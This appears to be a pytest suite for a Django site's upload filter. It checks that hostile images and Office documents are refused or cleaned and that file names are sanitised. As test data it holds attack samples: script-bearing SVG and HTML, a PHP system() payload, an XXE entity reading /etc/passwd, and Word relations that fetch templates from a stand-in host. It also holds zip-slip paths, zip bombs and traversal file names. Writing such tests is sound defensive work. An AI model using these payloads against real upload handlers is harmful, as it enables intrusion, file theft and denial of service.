"""Every upload is judged by what it is. Hostile files are refused, or harmless once stored."""

import io
import random
import time

import pytest
from django.core.exceptions import ValidationError
from PIL import Image

from leernetwerken.files.documents import check_document
from leernetwerken.files.images import clean_image
from leernetwerken.files.models import SiteImage
from leernetwerken.files.names import extension_of, safe_name

from . import make

SECONDS = 2
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
NOISE = random.Random(1).randbytes(100_000)
HTML = b"<!doctype html><script>alert(1)</script>"

HOSTILE_IMAGES = {
    "empty": ("a.jpg", lambda: b""),
    "one byte": ("a.png", lambda: b"\x89"),
    "svg": ("a.svg", lambda: SVG),
    "svg named jpg": ("a.jpg", lambda: SVG),
    "html named png": ("a.png", lambda: HTML),
    "gif": ("a.gif", lambda: make.picture("GIF", mode="P", colour=1)),
    "gif named jpg": ("a.jpg", lambda: make.picture("GIF", mode="P", colour=1)),
    "bmp named png": ("a.png", lambda: make.picture("BMP")),
    "tiff named jpg": ("a.jpg", lambda: make.picture("TIFF")),
    "ico named png": ("a.png", lambda: make.picture("ICO")),
    "psd head named png": ("a.png", lambda: b"8BPS\0\1" + bytes(100)),
    "eps named jpg": ("a.jpg", lambda: b"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 1 1\n"),
    "pdf named jpg": ("a.jpg", lambda: make.PDF),
    "zip named webp": ("a.webp", lambda: make.archive(("a", b"b"))),
    "php in the name": ("a.php", make.picture),
    "double extension": ("a.jpg.exe", make.picture),
    "no extension": ("a", make.picture),
    "png named jpg": ("a.jpg", lambda: make.picture("PNG")),
    "jpg named avif": ("a.avif", make.picture),
    "truncated jpg": ("a.jpg", lambda: make.picture(size=(900, 900))[:700]),
    "truncated png": ("a.png", lambda: make.picture("PNG", size=(900, 900))[:120]),
    "truncated webp": ("a.webp", lambda: make.picture("WEBP", size=(900, 900))[:60]),
    "only a jpg head": ("a.jpg", lambda: b"\xff\xd8\xff\xe0" + bytes(2000)),
    "only an avif head": ("a.avif", lambda: b"\0\0\0\x20ftypavif" + bytes(2000)),
    "png of 30,000 x 30,000": ("a.png", lambda: make.png_of(30_000, 30_000)),
    "png of 2,000,000,000 x 2": ("a.png", lambda: make.png_of(2_000_000_000, 2)),
    "png of zero": ("a.png", lambda: make.png_of(0, 10)),
    "png just over the limit": ("a.png", lambda: make.png_of(5_000, 4_001)),
    "text that unpacks to 64 MB": ("a.png", make.png_with_text_bomb),
    "jpg that is drawn a thousand times": ("a.jpg", lambda: make.picture_of_scans(1_000, size=(5_000, 4_000))),
    "eleven MB": ("a.jpg", lambda: make.picture() + bytes(11 * 1024 * 1024)),
}

# Of a Word file; the program that opens it goes there unasked.
FETCHED = [
    b'<R Type="x/attachedTemplate" Target="https://kwaad.test/x.dotm"/>',
    b'<R Target="https://kwaad.test/x.dotm" Type="x/attachedTemplate"/>',
    b'<R Type="x/attachedTemplate" Target = "&#104;ttps://kwaad.test/x.dotm"/>',
    b'<R Type="x/attached&#x54;emplate" Id="a>b" Target="https://kwaad.test/x.dotm"/>',
    b'<R Type="x/attachedTemplate" Target="file://kwaad.test/x.dotm"/>',
    b'<R Type="x/attachedTemplate" Target="file:////kwaad.test/x.dotm"/>',
    b"<R Type='x/attachedTemplate' Target='\\\\kwaad.test\\x.dotm'/>",
    b"<R Type='x/attachedTemplate' Target='file:\\\\kwaad.test\\x.dotm'/>",
    b'<R Type="x/oleObject" Target="mhtml:https://kwaad.test/x!" TargetMode="External"/>',
    b'<R Type="x/oleObject" Target="https://kwaad.test/x.html!" TargetMode="External"/>',
    b'<R Type="x/frame" Target="https://kwaad.test/" TargetMode="External"/>',
    b'<R Type="x/subDocument" Target="https://kwaad.test/x.docx" TargetMode="External"/>',
    b'<R Type="x/aFChunk" Target="//kwaad.test/x.html" TargetMode="External"/>',
]
KEPT = (
    b'<R Type="x/hyperlink" Target="https://voorbeeld.test/" TargetMode="External"/>'
    b'<R Type="x/image" Target="https://voorbeeld.test/a.png" TargetMode="External"/>'
    b'<R Type="x/attachedTemplate" Target="file:///C:/Normal.dotm" TargetMode="External"/>'
    b'<R Type="x/oleObject" Target="embeddings/oleObject1.bin"/>'
)


def related(relations):
    return make.office("docx", ("word/_rels/document.xml.rels", relations), ("word/a.jpg", NOISE))


HOSTILE_DOCUMENTS = {
    "program": ("a.exe", lambda: b"MZ" + bytes(100)),
    "html": ("a.html", lambda: HTML),
    "svg": ("a.svg", lambda: SVG),
    "xhtml": ("a.xhtml", lambda: HTML),
    "mht": ("a.mht", lambda: b"MIME-Version: 1.0"),
    "zip": ("a.zip", lambda: make.archive(("a", b"b"))),
    "docm": ("a.docm", lambda: make.office("docx")),
    "double extension": ("a.pdf.exe", lambda: make.PDF),
    "html named pdf": ("a.pdf", lambda: HTML),
    "program before pdf": ("a.pdf", lambda: b"MZ" + make.PDF),
    "pdf without end": ("a.pdf", lambda: make.PDF[:20]),
    "empty pdf": ("a.pdf", lambda: b""),
    "program named txt": ("a.txt", lambda: b"MZ\x90\0\x03\0\0\0"),
    "binary csv": ("a.csv", lambda: bytes(range(256))),
    "half utf-16": ("a.txt", lambda: b"\xff\xfea"),
    "pdf named docx": ("a.docx", lambda: make.PDF),
    "xlsx named docx": ("a.docx", lambda: make.office("xlsx")),
    "zip named docx": ("a.docx", lambda: make.archive(("a", b"b"))),
    "docx named odt": ("a.odt", lambda: make.office("docx")),
    "ods named odt": ("a.odt", lambda: make.open_document(b"application/vnd.oasis.opendocument.spreadsheet")),
    "odt with macros": (
        "a.odt",
        lambda: make.open_document(b"application/vnd.oasis.opendocument.text", ("Basic/x", b"")),
    ),
    "macro": ("a.docx", lambda: make.office("docx", ("word/vbaProject.bin", b"x"))),
    "macro in capitals": ("a.xlsx", lambda: make.office("xlsx", ("xl/VBAPROJECT.BIN", b"x"))),
    "macro type": (
        "a.docx",
        lambda: make.office("docx", types=b"<a b='application/vnd.ms-word.document.macroEnabled'/>"),
    ),
    "program inside": ("a.docx", lambda: make.office("docx", ("word/embeddings/a.exe", b"MZ"))),
    "page inside": ("a.docx", lambda: make.office("docx", ("word/a.htm", HTML))),
    "external entity": (
        "a.docx",
        lambda: make.office("docx", body=b'<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]><a>&b;</a>'),
    ),
    "entity in utf-16": ("a.docx", lambda: make.office("docx", body="<!DOCTYPE a [<!ENTITY b 'c'>]>".encode("utf-16"))),
    "entity after 1 MB": ("a.docx", lambda: make.office("docx", body=b"<a/> " * 200_000 + b"<!DOCTYPE a>")),
    **{
        f"fetched from elsewhere: {relation.decode()}": ("a.docx", lambda relation=relation: related(relation))
        for relation in FETCHED
    },
    "fetched from elsewhere, with a long way between the words": (
        "a.docx",
        lambda: related(b'<R Type="x/oleObject"' + b" " * 300_000 + b'Target="https://kwaad.test/x"/>'),
    ),
    "two MB of relations": ("a.docx", lambda: related(b"<R/>" * 500_000)),
    "1,001 entries": ("a.docx", lambda: make.office("docx", *[(f"word/{n}.xml", b"") for n in range(999)])),
    "60,000 entries": ("a.docx", lambda: make.office("docx", *[(f"w/{n}", b"") for n in range(60_000)])),
    "bomb of 200 MB": ("a.docx", lambda: make.office("docx", ("word/a.xml", bytes(200 * 1024 * 1024)))),
    "bomb below 100 MB": ("a.docx", lambda: make.office("docx", ("word/a.xml", bytes(90 * 1024 * 1024)))),
    "bomb that lies": ("a.docx", lambda: make.lying_size(make.office("docx", ("word/a.xml", bytes(90 * 1024 * 1024))))),
    "path up": ("a.docx", lambda: make.office("docx", ("../../etc/cron.d/x", b"x"))),
    "absolute path": ("a.docx", lambda: make.office("docx", ("/etc/x", b"x"))),
    "windows path": ("a.docx", lambda: make.office("docx", ("..\\..\\x", b"x"))),
    "drive": ("a.docx", lambda: make.office("docx", ("C:/x", b"x"))),
    "same name twice": (
        "a.docx",
        lambda: make.archive(("[Content_Types].xml", b""), ("word/document.xml", b""), ("word/document.xml", b"x")),
    ),
    "encrypted": ("a.docx", lambda: make.encrypted_flag(make.office("docx"))),
    "comment behind": ("a.docx", lambda: make.office("docx", comment=b"<script>")),
    "data behind": ("a.docx", lambda: make.office("docx") + HTML),
    "truncated": ("a.docx", lambda: make.office("docx")[:-10]),
    "end record only": ("a.docx", lambda: b"PK\x05\x06" + bytes(18)),
    "eleven MB": ("a.txt", lambda: b"a" * (11 * 1024 * 1024)),
}


def test_there_are_enough_hostile_files():
    assert (len(HOSTILE_IMAGES), len(HOSTILE_DOCUMENTS)) == (31, 60)


@pytest.mark.filterwarnings("ignore:Duplicate name")
@pytest.mark.parametrize("case", HOSTILE_IMAGES)
def test_a_hostile_image_is_refused_in_time(case):
    name, build = HOSTILE_IMAGES[case]
    file = make.upload(name, build())
    started = time.process_time()
    with pytest.raises(ValidationError):
        clean_image(file, extension=extension_of(name))
    assert time.process_time() - started < SECONDS


@pytest.mark.filterwarnings("ignore:Duplicate name")
@pytest.mark.parametrize("case", HOSTILE_DOCUMENTS)
def test_a_hostile_document_is_refused_in_time(case):
    name, build = HOSTILE_DOCUMENTS[case]
    file = make.upload(name, build())
    started = time.process_time()
    with pytest.raises(ValidationError) as refused:
        check_document(file)
    assert time.process_time() - started < SECONDS
    assert refused.value.messages != [""]


@pytest.mark.parametrize(
    ("name", "data"),
    [
        ("a.pdf", make.PDF),
        ("a.docx", make.office("docx")),
        ("a.docx", related(KEPT)),
        ("a.xlsx", make.office("xlsx", ("xl/printerSettings/printerSettings1.bin", b"\0"))),
        ("a.pptx", make.office("pptx", ("ppt/media/a.png", make.picture("PNG")))),
        ("a.odt", make.open_document()),
        ("a.txt", "één regel\r\n\ten nog één".encode()),
        ("a.csv", "naam;café\n".encode("cp1252")),
        ("b.txt", "tekst uit Kladblok".encode("utf-16")),
        ("A.PDF", make.PDF),
    ],
)
def test_ordinary_documents_are_welcome(name, data):
    check_document(make.upload(name, data))


def test_a_word_that_is_looked_for_may_stand_there_often():
    data = make.office("docx", ("word/a.xml", b"attachedTemplate" * 60_000), ("word/a.jpg", NOISE))
    started = time.process_time()
    check_document(make.upload("a.docx", data))
    assert time.process_time() - started < SECONDS


@pytest.mark.parametrize(
    ("kind", "name"), [("JPEG", "a.jpg"), ("PNG", "a.png"), ("WEBP", "a.webp"), ("AVIF", "a.avif")]
)
def test_ordinary_pictures_keep_their_format_and_size(kind, name):
    cleaned = Image.open(clean_image(make.upload(name, make.picture(kind)), extension=extension_of(name)))
    assert (cleaned.format, cleaned.size) == (kind, (400, 300))


def test_a_photo_that_appears_bit_by_bit_is_welcome():
    """Also with many scans in what it carries: the small photo in its head, the film behind its end."""
    small = make.picture_of_scans(100)
    exif = b"Exif\0\0" + small
    cleaned = clean_image(make.upload("a.jpg", make.picture(progressive=True, exif=exif) + small))
    assert Image.open(cleaned).size == (400, 300)


def test_transparency_stays():
    cleaned = clean_image(make.upload("a.png", make.picture("PNG", mode="RGBA", colour=(0, 0, 0, 0))))
    assert Image.open(cleaned).getpixel((0, 0)) == (0, 0, 0, 0)


@pytest.mark.parametrize("alpha", [0, 1], ids=["wiped out", "control"])
def test_what_was_wiped_out_of_a_picture_stands_nowhere_in_it(alpha):
    data = make.picture("PNG", (40, 30), (200, 10, 10, alpha), mode="RGBA")
    kept = Image.open(clean_image(make.upload("a.png", data)))
    assert kept.getpixel((5, 5)) == ((200, 10, 10, 1) if alpha else (0, 0, 0, 0))


def test_a_photo_loses_its_secrets_and_stands_upright():
    original = make.picture_with_secrets()
    assert original.count(b"GEHEIM") == 5
    cleaned = clean_image(make.upload("a.jpg", original))
    picture = Image.open(cleaned)
    assert (cleaned.file.getvalue().count(b"GEHEIM"), dict(picture.getexif()), picture.size) == (0, {}, (300, 400))


@pytest.mark.parametrize("payload", [HTML, b"<?php system('x'); ?>", make.PDF, make.archive(("a.js", b"alert(1)"))])
def test_what_hides_behind_a_picture_does_not_survive(payload):
    cleaned = clean_image(make.upload("a.jpg", make.picture(comment=payload) + payload))
    assert payload not in cleaned.file.getvalue()


@pytest.mark.parametrize(("kind", "name"), [("WEBP", "a.webp"), ("PNG", "a.png"), ("AVIF", "a.avif")])
def test_of_a_moving_picture_the_first_frame_stays(kind, name):
    before = Image.open(io.BytesIO(make.animation(kind)))
    after = Image.open(clean_image(make.upload(name, make.animation(kind))))
    assert (before.n_frames, getattr(after, "n_frames", 1)) == (3, 1)


@pytest.mark.parametrize(("kind", "name"), [("JPEG", "a.jpg"), ("PNG", "a.png"), ("WEBP", "a.webp")])
def test_the_largest_picture_allowed_is_made_smaller_in_time(kind, name):
    options = {"PNG": {"compress_level": 1}, "WEBP": {"method": 0}}.get(kind, {})
    file = make.upload(name, make.picture(kind, size=(5_000, 4_000), **options))
    started = time.process_time()
    assert Image.open(clean_image(file)).size == (3_000, 2_400)
    assert time.process_time() - started < SECONDS


@pytest.mark.parametrize(
    ("given", "kept"),
    [
        ("verslag maart.pdf", "verslag maart.pdf"),
        ("../../etc/passwd.txt", "passwd.txt"),
        ("C:\\Users\\Jan\\notitie.DOCX", "notitie.docx"),
        ("foto\u202egpj.pdf", "fotogpj.pdf"),
        ("a\x00b\r\nc.pdf", "abc.pdf"),
        ('"><script>.pdf', "-script-.pdf"),
        ("%2e%2e%2fa.pdf", "-2e-2e-2fa.pdf"),
        (".htaccess", "htaccess"),
        ("...", "bestand"),
        ("", "bestand"),
        ("né 👍.pdf", "né 👍.pdf"),
    ],
)
def test_names_are_made_harmless(given, kept):
    assert safe_name(given) == kept


def test_a_long_name_keeps_its_extension():
    name = safe_name("x" * 300 + ".docx")
    assert (len(name), name[-5:]) == (100, ".docx")


def test_code_that_stores_a_picture_goes_through_the_same_door(cast):
    image = SiteImage.objects.create(title="x", file=make.upload("a.jpg", make.picture_with_secrets()))
    assert image.file.read().count(b"GEHEIM") == 0
    assert (image.width, image.height, image.original_name) == (300, 400, "a.jpg")
    assert image.file_size == len(image.file.storage.open(image.file.name).read())
    with pytest.raises(ValidationError):
        SiteImage.objects.create(title="x", file=make.upload("a.jpg", SVG))
